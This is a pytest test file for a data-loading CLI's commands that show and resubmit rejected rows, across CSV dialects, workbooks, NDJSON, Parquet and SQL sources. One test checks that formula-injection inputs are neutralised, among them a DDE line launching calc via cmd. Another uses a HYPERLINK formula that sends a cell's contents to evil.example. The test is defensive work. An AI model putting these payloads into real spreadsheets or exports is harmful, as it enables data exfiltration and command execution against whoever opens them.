"""`lume rejects` and `lume resubmit`: rejected rows read, mended and processed, in the dialect of their source."""

import csv
import gzip
import hashlib
import json
import sqlite3
import subprocess
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import pytest
from cli.shell import LUME, Shell
from components import package
from local.flows import write_flows

import lume_local
from lume_cli._output.text import short
from lume_cli._work.rejected_rows import defused
from lume_sync import Client, LumeRun

EUROPEAN = """
flow = "european"
version = "v1"
[source]
format = "csv"
csv = { delim = ";", encoding = "latin-1" }
[columns.id]
type = "integer"
required = true
[columns.name]
required = true
[columns.amount]
sql = "replace(amount, ',', '.')"
type = "number"
sql_type = "DECIMAL(12,2)"
"""
ROWS = 'id;name;amount\n1;Ann;1,50\nx;J\xf6rg;2,50\n3;;3,50\n4;"a;b";none\n'


@pytest.fixture
def run(home: Path, client: Client, source: Callable[..., str]) -> LumeRun:
    write_flows(home / "flows")
    (home / "flows" / "european.toml").write_text(EUROPEAN)
    name = source(ROWS)
    (home / name).write_bytes(ROWS.encode("latin-1"))
    return client.run("european:v1", name, {"ticket": "OPS-7"}).wait(15)


def test_the_warnings_of_a_run_are_shown(shell: Shell, run: LumeRun, home: Path) -> None:
    (home / "utf8.csv").write_text("id;name;amount\n1;Jörg;1,50\n", encoding="utf-8")
    done = shell.lume("run", run.flow_version or "", "utf8.csv", "--wait")
    assert done.code == 0, done.err
    warning = "the source is valid UTF-8, but was read as latin-1, so letters beyond ASCII are probably wrong"
    assert f"  warning: {warning}" in done.err
    assert warning in shell.lume("show", done.out.strip()).out


def test_a_table_with_the_reasons(shell: Shell, run: LumeRun) -> None:
    done = shell.lume("rejects", short(run.id))
    assert done.code == 0, done.err
    header, *rows = done.out.splitlines()
    assert header.split() == ["WHERE", "WHY", "id", "name", "amount"]
    assert len(rows) == 3
    assert "Jörg" in rows[0]
    assert "a;b" in rows[2]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        *(
            (text, f"'{text}")
            for text in (
                "=1+1",
                "+1+1",
                "-1-1",
                "@SUM(A1)",
                "=",
                "-",
                "\t=1",
                "\r=1",
                "-2+3+cmd|' /C calc'!A0",
            )
        ),
        *((text, text) for text in ("", None, "a=1", "-5", "+5.5", "-,5", "-1e-9", "1", " =1", "x-1")),
    ],
)
def test_what_a_spreadsheet_takes_for_a_formula(text: str | None, shown: str | None) -> None:
    assert defused(text) == shown


def test_rejects_without_formulas(
    shell: Shell, client: Client, home: Path, source: Callable[..., str]
) -> None:
    write_flows(home / "flows")
    content = (
        'id,Email,Age\n1,"=HYPERLINK(""http://evil.example?""&A1)",-5\n2,+cmd,-7\n3,ann@example.org,30\n'
    )
    (home / (name := source(content))).write_text(content)
    rejected = client.run("people:v1", name).wait(15)
    kept, safe = (
        shell.lume("rejects", short(rejected.id), "-o", "csv", *more).out for more in ([], ["--no-formulas"])
    )
    assert [row["Email"] for row in csv.DictReader(kept.splitlines())][1] == "+cmd"
    rows = list(csv.DictReader(safe.splitlines()))
    assert [(row["Email"], row["Age"]) for row in rows] == [
        ('\'=HYPERLINK("http://evil.example?"&A1)', "-5"),
        ("'+cmd", "-7"),
    ]
    assert "--no-formulas needs -o csv" in shell.lume("rejects", short(rejected.id), "--no-formulas").err


def test_mended_rejects_are_resubmitted(shell: Shell, run: LumeRun, client: Client, tmp_path: Path) -> None:
    mended = tmp_path / "mended.csv"
    script = f"lume rejects {short(run.id)} -o csv > mended.csv"
    done = pipe(shell, script)
    assert done == ""
    text = mended.read_bytes().decode("latin-1")
    assert text.splitlines()[0].startswith("_lume_row;")
    assert "x;J\xf6rg;2,50" in text
    mended.write_bytes(
        text.replace("x;J", "2;J").replace(";3;;", ";3;Cy;").replace("none", "4,50").encode("latin-1")
    )
    done = shell.lume("resubmit", short(run.id), "mended.csv", "--wait", "-o", "json")
    assert done.code == 0, done.err
    new = json.loads(done.out)
    assert (new["status"], new["flow_version"]) == ("SUCCEEDED", "european:v1")
    sha256 = hashlib.sha256(mended.read_bytes()).hexdigest()
    marks = {"resubmit_of": run.id, "resubmit_sha256": sha256, "resubmit_source": run.source_path}
    assert new["run_metadata"] == {"ticket": "OPS-7"} | marks
    assert new["metadata"]["metrics"]["rows_mapped"] == 3


def runs_of(client: Client, run: LumeRun) -> list[str]:
    runs = client.list_runs(flow_version=run.flow_version, since=run.created_at)
    return [one.id for one in runs if (one.run_metadata or {}).get("resubmit_of") == run.id]


@pytest.mark.thorough
def test_the_same_content_is_found_again_whatever_its_name(
    shell: Shell, run: LumeRun, client: Client, tmp_path: Path
) -> None:
    pipe(shell, f"lume rejects {short(run.id)} -o csv > mended.csv")
    file = tmp_path / "mended.csv"
    shell.lume("resubmit", run.id, "mended.csv", "--wait")  # all rows rejected: FAILED, it may be repeated
    file.write_bytes(file.read_bytes().replace(b"x;J", b"2;J"))
    first = shell.lume("resubmit", run.id, "mended.csv", "--wait", "-o", "ids")
    assert first.code == 5, first.err
    (tmp_path / "other.csv").write_bytes(file.read_bytes())
    again = shell.lume("resubmit", run.id, "other.csv", "--wait", "-o", "ids")
    assert (again.code, again.out) == (5, first.out)
    assert "has this content for run" in again.err
    assert "--force processes it again" in again.err
    assert len(runs_of(client, run)) == 2
    forced = shell.lume("resubmit", run.id, "other.csv", "--wait", "--force", "-o", "ids")
    assert (forced.code, forced.out != first.out) == (5, True)
    assert len(runs_of(client, run)) == 3


def test_the_source_itself_is_no_file_of_rejects(
    shell: Shell, home: Path, run: LumeRun, client: Client
) -> None:
    source = str(home / str(run.source_path))
    done = shell.lume("resubmit", run.id, source, "--wait")
    assert done.code == 2
    assert "has no _lume_ columns, so it is not a rejects file" in done.err
    assert runs_of(client, run) == []
    assert shell.lume("resubmit", run.id, source, "--wait", "--force").code == 5


@pytest.mark.thorough
def test_a_file_that_was_cut_off_is_not_taken_for_the_source(
    shell: Shell, run: LumeRun, tmp_path: Path
) -> None:
    pipe(shell, f"lume rejects {short(run.id)} -o csv > mended.csv")
    (tmp_path / "cut.csv.gz").write_bytes(gzip.compress((tmp_path / "mended.csv").read_bytes())[:-9])
    done = shell.lume("resubmit", run.id, "cut.csv.gz")
    assert done.code == 2
    assert "cut.csv.gz is damaged or can't be read: Compressed file ended before" in " ".join(
        done.err.split()
    )
    assert "_lume_" not in done.err


@pytest.mark.thorough
def test_the_rows_of_the_run_are_not_replaced(
    shell: Shell, home: Path, source: Callable[..., str], client: Client, tmp_path: Path
) -> None:
    flow = "one_parts"
    target = '[target]\nmapped = "{data}/one_parts/"\nrejects = "{data}/{run_id}.csv"\n[columns.id]'
    text = EUROPEAN.replace('"european"', f'"{flow}"').replace("[columns.id]", target)
    write_flows(home / "flows")
    (home / "flows" / f"{flow}.toml").write_text(text)
    run = client.run(f"{flow}:v1", source("id;name;amount\n1;Ann;1\n2;Bo;2\nx;Cy;3\n")).wait(15)
    pipe(shell, f"lume rejects {run.id} -o csv > mended.csv")
    file = tmp_path / "mended.csv"
    file.write_text(file.read_text().replace(";x;", ";3;"))
    done = shell.lume("resubmit", run.id, "mended.csv", "--wait")
    words = f"would replace the 2 rows of run {short(run.id)} there. Put {{run_id}} into target.mapped"
    assert (done.code, words in " ".join(done.err.split())) == (2, True), done.err
    assert runs_of(client, run) == []
    assert shell.lume("resubmit", run.id, "mended.csv", "--wait", "--force").code == 0


def pipe(shell: Shell, script: str) -> str:
    words = " ".join(LUME[LUME.index("-W") - 1 :])
    done = subprocess.run(
        ["/bin/sh", "-c", script.replace("lume ", f"{words} ", 1)],
        cwd=shell.folder,
        env=shell.variables,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_several_reasons_and_one_that_no_row_has(shell: Shell, run: LumeRun) -> None:
    found = json.loads(shell.lume("rejects", run.id, "--reason", "is", "-o", "json").out)
    assert [row["id"] for row in found] == ["x", "3", "4"]
    one = json.loads(shell.lume("rejects", run.id, "--reason", "is", "--limit", "1", "-o", "json").out)
    assert [row["id"] for row in one] == ["x"]
    done = shell.lume("rejects", run.id, "--reason", "is green")
    assert (done.code, done.out) == (0, "")
    assert "no row was rejected for a reason that contains 'is green': id: is not a valid integer" in done.err


def test_the_file_is_not_needed_but_its_rows_must_be_there(shell: Shell, run: LumeRun) -> None:
    path = Path(str(run.rejects_location))
    path.unlink()
    done = shell.lume("rejects", run.id)
    assert (done.code, done.out) == (1, "")
    assert "410 Gone" in done.err
    assert "the file no longer exists" in done.err


@pytest.mark.parametrize("dialect", ['delim = "|", escape = "\\\\"', 'delim = "\\t", quote = ""'])
def test_csv_as_the_server_writes_it(
    shell: Shell, home: Path, client: Client, source: Callable[..., str], dialect: str
) -> None:
    delim = "|" if "|" in dialect else "\t"
    name = "piped" if delim == "|" else "tabbed"
    write_flows(home / "flows")
    text = f'''flow = "{name}"
version = "v1"
[source]
csv = {{ {dialect} }}
[columns.id]
type = "integer"
'''
    (home / "flows" / f"{name}.toml").write_text(text)
    hard = '"a \\\\ \\" b"' if delim == "|" else "a; 'b'"
    rows = f"id|text\n1|good\nx|{hard}\n2\n3|too|many\n".replace("|", delim)
    run = client.run(f"{name}:v1", source(rows)).wait(15)
    printed = shell.lume("rejects", run.id, "-o", "csv").out
    written = Path(str(run.rejects_location)).read_text()
    options: dict[str, Any] = {"delimiter": delim, "quoting": csv.QUOTE_NONE}
    if delim == "|":
        options = {"delimiter": delim, "escapechar": "\\", "doublequote": False}
    assert list(csv.reader(printed.splitlines(), **options)) == list(
        csv.reader(written.splitlines(), **options)
    )
    assert printed.count("\n") == 4


def test_numbers_keep_their_digits(
    shell: Shell, home: Path, client: Client, source: Callable[..., str]
) -> None:
    (home / "flows" / "payments.toml").write_text(
        'flow = "payments"\nversion = "v1"\n[source]\nformat = "ndjson"\n'
        '[columns.id]\ntype = "integer"\n[columns.paid]\n'
    )
    line = '{"id": "x", "paid": 12345678901234567890.12, "rate": [0.1234567890123456789]}'
    run = client.run("payments:v1", source(line + '\n{"id": 1, "paid": 2}\n')).wait(15)
    printed = shell.lume("rejects", run.id, "-o", "ndjson").out
    assert "12345678901234567890.12" in printed
    assert "0.1234567890123456789" in printed


def test_a_run_without_rejects(shell: Shell, source: Callable[..., str], client: Client) -> None:
    clean = client.run("people:v1", source()).wait(15)
    done = shell.lume("rejects", clean.id)
    assert (done.code, done.out) == (0, "")
    assert f"run {short(clean.id)} (SUCCEEDED) has no rejected rows" in done.err


def test_a_run_that_failed_by_its_rejects(
    shell: Shell, source: Callable[..., str], client: Client, tmp_path: Path
) -> None:
    failed = client.run("people:v1", source("id,Email,Age\nx,y,z\n"))
    assert client.wait_for_run_completion(failed.id, 30, 0.1).status == "FAILED"
    done = shell.lume("rejects", failed.id)
    assert (done.code, done.out) == (1, "")
    assert "is FAILED and wrote nothing, so its 1 rejected row can't be shown: the only row was" in done.err
    assert "`lume flow try FLOW.toml SOURCE` shows such rows, except those that repeat a value" in done.err
    (tmp_path / "mended.csv").write_text("_lume_row,id,Email,Age\n1,1,a@example.org,5\n")
    done = shell.lume("resubmit", failed.id, "mended.csv")
    assert (done.code, "is FAILED and wrote no rejects" in done.err) == (2, True)
    assert shell.lume("resubmit", failed.id, "mended.csv", "--wait", "--force").code == 0


def test_rejects_of_a_workbook_go_back_in(shell: Shell, home: Path, client: Client, tmp_path: Path) -> None:
    openpyxl = package("openpyxl")

    def save(path: Path, *rows: list[Any]) -> None:
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append(row)
        book.save(path)

    write_flows(home / "flows")
    (home / "flows" / "sheets.toml").write_text(
        'flow = "sheets"\nversion = "v1"\n[source]\nformat = "excel"\n'
        '[columns.id]\ntype = "integer"\n[columns.name]\n'
    )
    save(home / "in.xlsx", ["id", "name"], [1, "Ann"], ["x", "Bo"])
    run = client.run("sheets:v1", "in.xlsx").wait(15)
    rejects = str(run.rejects_location)
    (tmp_path / "mended.csv").write_text(Path(rejects).read_text().replace("x,Bo", "2,Bo"))
    done = shell.lume("resubmit", short(run.id), "mended.csv", "--wait", "-o", "json")
    assert (done.code, json.loads(done.out)["status"]) == (0, "SUCCEEDED"), done.err
    source = shell.lume("resubmit", short(run.id), str(home / "in.xlsx"))
    assert (source.code, "has no _lume_ columns" in source.err) == (2, True)
    save(tmp_path / "mended", ["_lume_row", "id", "name"], [2, 2, "Bo"])  # of whatever name
    done = shell.lume("resubmit", short(run.id), "mended", "--wait", "-o", "json")
    assert (done.code, json.loads(done.out)["status"]) == (0, "SUCCEEDED")


OBJECTS = """
flow = "FORMAT_rows"
version = "v1"
[source]
format = "FORMAT"
[target]
mapped = "{data}/out/{run_id}.ndjson"
[columns.id]
type = "integer"
[columns.n]
[columns.b]
type = "boolean"
[columns.e]
required = true
[columns.o]
"""


ROWS_OF = [
    {"id": 1, "n": 1.5, "b": True, "e": "", "o": {"k": [1.5, "a, b"]}, "more": [None]},
    {"id": "x", "n": 2.5, "b": False, "e": "", "o": {"k": [1.5, 'a, "b"', None]}, "more": 1},
    {"id": "y", "n": 1e-7, "b": None, "e": "é;\n", "o": None},
]


@pytest.mark.thorough
@pytest.mark.parametrize("format", ["ndjson", "parquet"])
def test_rejects_of_other_formats_go_back_in_as_csv(
    shell: Shell, home: Path, client: Client, tmp_path: Path, format: str
) -> None:
    """Numbers, booleans, empty texts and objects are what they were."""
    (home / "flows").mkdir(exist_ok=True)
    (home / "flows" / f"{format}.toml").write_text(OBJECTS.replace("FORMAT", format))
    want = [{**row, "id": 7} for row in ROWS_OF[1:]]
    types = "{id: 'VARCHAR', n: 'DOUBLE', b: 'BOOLEAN', e: 'VARCHAR', o: 'STRUCT(k VARCHAR[])'}"
    for name, rows in {"in": ROWS_OF, "want": want}.items():
        (home / f"{name}.ndjson").write_text("\n".join(map(json.dumps, rows)))
        if format == "parquet":
            read = f"read_json('{home}/{name}.ndjson', columns={types})"
            duckdb.sql(f"COPY (FROM {read}) TO '{home}/{name}.parquet'")
    flow = f"{format}_rows:v1"
    run = client.run(flow, f"in.{format}").wait(30)
    assert run.status == "PARTIAL_FAILED"
    pipe(shell, f"lume rejects {short(run.id)} -o csv > mended.csv")
    file = tmp_path / "mended.csv"
    file.write_text(file.read_text().replace(",x,", ",7,").replace(",y,", ",7,"))
    done = shell.lume("resubmit", short(run.id), "mended.csv", "--wait", "-o", "json")
    assert (done.code, json.loads(done.out)["status"]) == (0, "SUCCEEDED"), done.err
    again = client.run_status(json.loads(done.out)["id"])
    assert list(again.mapped()) == list(client.run(flow, f"want.{format}").wait(30).mapped())


def test_every_digit_goes_back_in(shell: Shell, home: Path, client: Client, tmp_path: Path) -> None:
    (home / "flows").mkdir(exist_ok=True)
    (home / "flows" / "digits.toml").write_text(
        OBJECTS.replace("FORMAT_rows", "digits").replace("FORMAT", "json")
    )
    rows = '[{"id": "x", "n": 12345678901234567.89, "o": {"k": [0.1234567890123456789]}, "e": 1}, {"id": 1, "e": 1}]'
    (home / "digits.json").write_text(rows)
    run = client.run("digits:v1", "digits.json").wait(30)
    pipe(shell, f"lume rejects {run.id} -o csv > mended.csv")
    file = tmp_path / "mended.csv"
    file.write_text(file.read_text().replace(",x,", ",7,"))
    done = shell.lume("resubmit", run.id, "mended.csv", "--wait", "-o", "json")
    (row,) = client.run_status(json.loads(done.out)["id"]).mapped()
    assert (row["n"], row["o"]) == ("12345678901234567.89", '{"k":[0.1234567890123456789]}')


def test_rejects_of_a_query_are_corrected_in_its_database(
    shell: Shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REJECTS_URL", f"sqlite:///{tmp_path}/rows.db")
    with closing(sqlite3.connect(tmp_path / "rows.db")) as database, database:
        database.execute("CREATE TABLE raw AS SELECT 1 AS id UNION ALL SELECT 'x'")
    (tmp_path / "flows").mkdir()
    source = 'format = "sql"\nurl_env = "REJECTS_URL"\nquery = "SELECT id FROM raw"'
    (tmp_path / "flows" / "queried.toml").write_text(
        f'flow = "queried"\nversion = "v1"\n[source]\n{source}\n[columns.id]\ntype = "integer"\n'
    )
    where = tmp_path / "flows", tmp_path / ".queried", [tmp_path]
    with lume_local.serve_in_thread(*where, max_active=1) as server, server.client() as client:
        own = {"LUME_BASE_URL": server.base_url, "LUME_API_KEY": server.api_key}
        run = client.run("queried:v1", "all").wait(30)
        done = shell.lume("rejects", run.id, "-o", "csv", **own)
        assert (done.code, "correct the rows there" in done.err) == (2, True), done.err
        (tmp_path / "mended.csv").write_text(Path(str(run.rejects_location)).read_text().replace("x", "2"))
        done = shell.lume("resubmit", run.id, "mended.csv", "--wait", **own)
        assert (done.code, "is a query of a database, which reads no file" in done.err) == (1, True), done.err
